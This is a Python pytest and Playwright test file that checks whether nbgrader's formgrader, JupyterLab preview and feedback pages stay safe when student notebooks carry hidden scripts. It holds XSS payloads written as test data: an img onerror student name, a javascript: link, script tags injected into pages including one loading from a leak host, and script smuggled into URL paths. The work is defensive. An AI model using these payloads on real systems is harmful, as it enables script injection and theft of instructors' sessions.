"""What students can hide in a notebook, opened where instructors open it, in a real browser."""

import json
import re
import shutil

import nbformat
import pytest
from nbgrader.api import Gradebook
from playwright.sync_api import expect

from helpers.course.nbgrader.formgrader import NOT_CLEAN
from helpers.course.nbgrader.harmless import harmless
from helpers.course.nbgrader.page import CleanPage
from tests.grading.course_directory import CourseDirectory
from tests.grading.payloads import FLAG, LEAK, PAYLOADS, notebook

from . import lab

pytestmark = [
    pytest.mark.tier("test"),
    pytest.mark.needs("browser"),
    pytest.mark.xdist_group("harmless"),
]
STUDENT, *_ = STUDENTS = f"<img src=x onerror={FLAG}>", "old"
POISON = f'<div id="poison"><img src="x" onerror="{FLAG}"></div><a href="javascript:{FLAG}">x</a>'


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course directory in which a student with a strange name has handed in the gallery."""
    made = CourseDirectory(tmp_path_factory.mktemp("harmless"), "01-neurons")
    made.release()
    handed_in = made.notebook("notebooks")
    for student in STUDENTS:
        made.hand_in(student, handed_in)
    unexecuted = (
        "--ExecuteToTheEnd.enabled=False",
        "--ExecuteToTheEnd.student_code_runs_as_me=True",
    )
    made.nbgrader("autograde", made.module, *unexecuted)
    poison(made, *STUDENTS)
    assert ", 2 of them made clean" in made.course("clean", made.module)
    made.nbgrader("generate_feedback", made.module)
    (page,) = (made.folder / "feedback" / STUDENT).glob("*/*.html")
    made.page = page.read_text(encoding="utf-8")
    poison(made, "old")
    return made


def poison(course, *students):
    """Write graded notebooks as they were before graders cleaned them."""
    for student in students:
        (path,) = (course.folder / "autograded" / student).glob("*/*.ipynb")
        nb = nbformat.read(path, as_version=4)
        nb.cells[1:1] = [payload.cell for payload in PAYLOADS]
        path.chmod(0o644)
        path.write_text(json.dumps(nb), encoding="utf-8")


@pytest.fixture(scope="module")
def address(course):
    with lab.server(course.folder) as started:
        yield started


@pytest.fixture(scope="module")
def instructor(browser, address):
    """Somebody who has logged in."""
    context = browser.new_context()
    context.set_default_timeout(lab.SECONDS)
    context.request.get(f"{address}/api/status?token={lab.TOKEN}")
    yield context
    context.close()


@pytest.fixture
def watched(instructor):
    """A page that knows whether a script has run, and what has left."""
    page = instructor.new_page()
    page.left = []

    def leave(request):
        page.left.append(request)

    instructor.on("request", leave)
    yield page
    instructor.remove_listener("request", leave)
    page.close()


def unharmed(page, address):
    """Whether no script of a student has run and no request has left."""
    taken = any("taken_over" in frame.evaluate("Object.keys(window)") for frame in page.frames)
    here = (address, "data:", "blob:", "ws:")
    away = [request for request in page.left if not request.url.startswith(here)]
    return not taken and all("csp" in str(request.failure).lower() for request in away)


def submission(course, student):
    """Return the number of a submission, as Formgrader names it."""
    with Gradebook(f"sqlite:///{course.folder / 'gradebook.db'}") as gradebook:
        return gradebook.find_submission_notebook(course.module, course.module, student).id


def test_formgrader_shows_the_submission_and_nothing_runs(course, address, watched):
    answer = watched.goto(f"{address}/formgrader/submissions/{submission(course, STUDENT)}/")
    assert answer.status == 200
    assert watched.locator(".nbgrader_cell").count() > 5
    assert watched.locator("#notebook math").count() > 5
    watched.wait_for_load_state("networkidle")
    watched.locator(".glyphicon-eye-open").click()  # its own scripts do run
    assert STUDENT in watched.locator("a.name-shown").inner_text()
    assert unharmed(watched, address)
    lab.ARTIFACTS.mkdir(exist_ok=True)
    watched.screenshot(path=lab.ARTIFACTS / "formgrader-harmless.png")


def test_a_mark_can_still_be_given(course, address, watched):
    number = submission(course, STUDENT)
    watched.goto(f"{address}/formgrader/submissions/{number}/")
    watched.wait_for_load_state("networkidle")
    box = watched.locator("input.score").first
    with watched.expect_response(lambda reply: "/api/grade/" in reply.url) as saved:
        box.fill("0.5")
        box.press("Tab")
    assert saved.value.status == 200
    assert saved.value.json()["manual_score"] == 0.5


def test_the_second_wall_holds_where_the_first_is_missing(course, address, watched):
    """The page with its own headers, and what was not cleaned in it."""
    url = f"{address}/formgrader/submissions/{submission(course, STUDENT)}/"

    def poison(route):
        real = route.fetch()
        script = f"<script>{FLAG}</script><script src='{LEAK}/a.js'></script>"
        route.fulfill(response=real, body=real.text().replace("<body>", f"<body>{POISON}{script}"))

    watched.route(url, poison)
    watched.goto(url)
    watched.wait_for_load_state("networkidle")
    assert watched.locator("#poison").count() > 0
    watched.get_by_role("link", name="x", exact=True).first.click()
    assert unharmed(watched, address)


def test_the_same_poison_bites_without_a_wall(watched):
    watched.set_content(POISON)
    watched.wait_for_function("'taken_over' in window")


def test_what_was_written_before_is_refused_until_it_is_cleaned(course, address, watched):
    url = f"{address}/formgrader/submissions/{submission(course, 'old')}/"
    watched.goto(url)
    said = re.sub(r"[*`]", "", NOT_CLEAN)
    assert said in " ".join(watched.locator("#notebook").first.inner_text().split())
    assert unharmed(watched, address)
    assert ", 1 of them made clean" in course.course("clean", course.module)
    assert ", clean already." in course.course("clean", course.module)
    watched.goto(url)
    assert watched.locator(".nbgrader_cell").count() > 5
    assert unharmed(watched, address)


@pytest.mark.parametrize(
    "path",
    [
        "manage_assignments",
        "manage_students",
        "manage_submissions/01-neurons",
        "gradebook",
        "gradebook/01-neurons",
        "gradebook/01-neurons/01-neurons",
        f"gradebook/01-neurons/%22;{FLAG};%22",
        f"gradebook/%3Cimg%20src=x%20onerror={FLAG}%3E/x",
    ],
)
def test_the_lists_of_formgrader_work_and_nothing_runs(course, address, watched, path):
    errors = []
    watched.on("console", lambda said: errors.append(said.text))
    watched.goto(f"{address}/formgrader/{path}")
    watched.wait_for_load_state("networkidle")
    assert watched.locator("#main-table").count() == 1
    assert unharmed(watched, address)
    if FLAG not in path:
        assert watched.locator("#main-table tr td").count() > 0
        assert [line for line in errors if "Content Security" in line] == []


def test_a_file_that_was_handed_in_is_served_as_no_page(course, address, watched):
    folder = course.folder / "autograded" / STUDENT / course.module
    (folder / "page.html").write_text(f"<script>{FLAG};document.title=1</script>Hello")
    watched.goto(f"{address}/formgrader/submissions/{submission(course, STUDENT)}/page.html")
    assert watched.get_by_text("Hello").count() == 1
    assert watched.title() == ""
    assert unharmed(watched, address)


def test_the_preview_in_jupyterlab_runs_nothing(course, address, watched):
    folder = course.folder / "autograded" / STUDENT / course.module
    shutil.copytree(folder, course.folder / "autograded" / "preview" / course.module)
    path = f"autograded/preview/{course.module}/{course.module}.ipynb"
    watched.goto(f"{address}/lab/tree/{path}")
    watched.locator(".jp-Notebook .jp-MarkdownOutput").first.wait_for()
    expect(watched.locator("mjx-container").nth(5)).to_be_attached()  # drawn when there is time
    watched.wait_for_load_state("networkidle")
    assert unharmed(watched, address)


def test_the_feedback_runs_nothing_and_needs_no_network(course, address, watched):
    watched.goto("about:blank")
    watched.left.clear()
    watched.route("**/*", lambda route: route.fulfill(body=course.page))
    watched.goto(f"{address}/")
    watched.wait_for_load_state("networkidle")
    assert watched.locator("math").count() > 5
    assert {r.url for r in watched.left if not r.url.startswith("data:")} == {f"{address}/"}
    assert unharmed(watched, address)
    lab.ARTIFACTS.mkdir(exist_ok=True)
    watched.screenshot(path=lab.ARTIFACTS / "feedback-harmless.png")


@pytest.fixture(scope="module")
def bare(browser):
    """Return a function that shows a page without headers of its own, and nothing but that page."""
    address, shown = "http://bare.test", {}
    context = browser.new_context()
    page = context.new_page()
    page.left = []
    context.on("request", lambda request: page.left.append(request))
    page.route(
        f"{address}/*",
        lambda route: route.fulfill(body=shown["page"], content_type="text/html"),
    )

    def show(html):
        shown["page"] = html
        page.left.clear()
        page.goto(f"{address}/page.html")
        page.wait_for_load_state("networkidle")
        return page, address

    yield show
    context.close()


@pytest.mark.tier("full")
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload.name)
def test_each_alone_is_harmless_by_the_first_wall_alone(bare, payload):
    page, _ = CleanPage(template_name="classic").from_notebook_node(harmless(notebook(payload)))
    assert unharmed(*bare(re.sub(r"<head>.*?</head>", "", page, flags=re.S)))


@pytest.mark.tier("full")
def test_without_the_first_wall_it_is_seen(bare):
    assert not unharmed(*bare(POISON))
    assert not unharmed(*bare(f'<img src="{LEAK}/a.png">'))


@pytest.mark.needs("wall")
def test_the_button_grades_behind_the_wall(course, address, watched):
    watched.goto(f"{address}/formgrader/manage_submissions/{course.module}")
    row = watched.locator("tbody tr", has_text="old")
    row.locator(".autograde a").click()
    watched.get_by_text("Successfully autograded").wait_for()
    said = watched.locator("#success-modal").inner_text()
    assert "Student code runs with: no network" in said
    assert "1 graded, 0 could not be graded." in said
    watched.screenshot(path=lab.ARTIFACTS / "formgrader-button.png")
    watched.goto(f"{address}/formgrader/submissions/{submission(course, 'old')}/")
    assert watched.get_by_text("ran without a wall").count() == 0
    watched.goto(f"{address}/formgrader/submissions/{submission(course, STUDENT)}/")
    assert watched.get_by_text("ran without a wall").count() == 1
    watched.screenshot(path=lab.ARTIFACTS / "formgrader-unwalled.png")
